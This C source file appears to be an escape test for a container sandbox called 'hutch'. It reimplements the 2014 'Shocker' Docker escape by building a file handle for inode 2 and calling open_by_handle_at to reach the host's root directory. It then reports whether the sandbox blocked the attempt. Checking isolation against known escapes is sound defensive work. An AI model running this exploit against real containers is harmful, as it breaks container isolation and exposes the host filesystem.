/* "Shocker" (Docker 0.x, 2014): with CAP_DAC_READ_SEARCH,
 * open_by_handle_at() opens any inode of the filesystem behind a mount fd
 * by its handle, including ones outside the container's root. Here: the
 * root inode (2 on ext2/3/4) of the filesystem the container's / lives
 * on, which on a directory-backed container is the host's root. hutch
 * denies open_by_handle_at in its filter (DESIGN.md 4).
 * ESCAPED: open_by_handle_at returns a directory not reachable from our
 * root (getcwd after fchdir says "(unreachable)").
 * BLOCKED: EPERM/EACCES/ENOSYS, or ESTALE (the kernel's user-namespace
 * rule refuses inodes outside the caller's subtree). Whether the call is
 * permitted at all is printed (a handle of our own root is reopened). */
#include "escape.h"

#include <limits.h>
#include <sys/syscall.h>

struct handle {
	unsigned int handle_bytes;
	int handle_type;
	unsigned char f_handle[128];
};

static long by_handle(int mfd, struct handle *h)
{
	errno = 0;
	return syscall(SYS_open_by_handle_at, mfd, h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
}

int main(void)
{
	esc_name = "shocker";
	bool esc = false;
	int mfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	struct handle own = { .handle_bytes = sizeof(own.f_handle) };
	int mnt_id = 0;
	errno = 0;
	long r = syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &own, &mnt_id, 0);
	note("name_to_handle_at(/)=%s", rname(r, errno));
	if (r == 0) {
		note("(type %d, %u bytes);", own.handle_type, own.handle_bytes);
		long fd = by_handle(mfd, &own);
		note("open_by_handle_at(own root)=%s;", rname(fd, errno));
		if (fd >= 0)
			close((int)fd);
	} else {
		note(";");
	}

	/* FILEID_INO32_GEN: { u32 ino; u32 generation; }, inode 2, gen 0. */
	struct handle h = { .handle_bytes = 8, .handle_type = 1 };
	unsigned int ino = 2, gen = 0;
	memcpy(h.f_handle, &ino, 4);
	memcpy(h.f_handle + 4, &gen, 4);
	long fd = by_handle(mfd, &h);
	int e = errno;
	note("open_by_handle_at(inode 2)=%s", rname(fd, e));
	if (fd >= 0) {
		char where[PATH_MAX] = "";
		struct stat st, root;
		fstat((int)fd, &st);
		stat("/", &root);
		if (fchdir((int)fd) == 0 && getcwd(where, sizeof(where)) == NULL)
			snprintf(where, sizeof(where), "(getcwd %s)", ename(errno));
		bool marker = faccessat((int)fd, ROOTFS_MARKER + 1, F_OK, 0) == 0;
		esc = where[0] != '/' && !same_file(&st, &root);
		note("-> %s, %s, rootfs marker %s", where[0] ? where : "?",
		     same_file(&st, &root) ? "our own root" : "NOT our root",
		     marker ? "present" : "absent");
		close((int)fd);
	} else if (e == ESTALE) {
		note("(kernel refused an inode outside our subtree)");
	}
	verdict(esc);
}
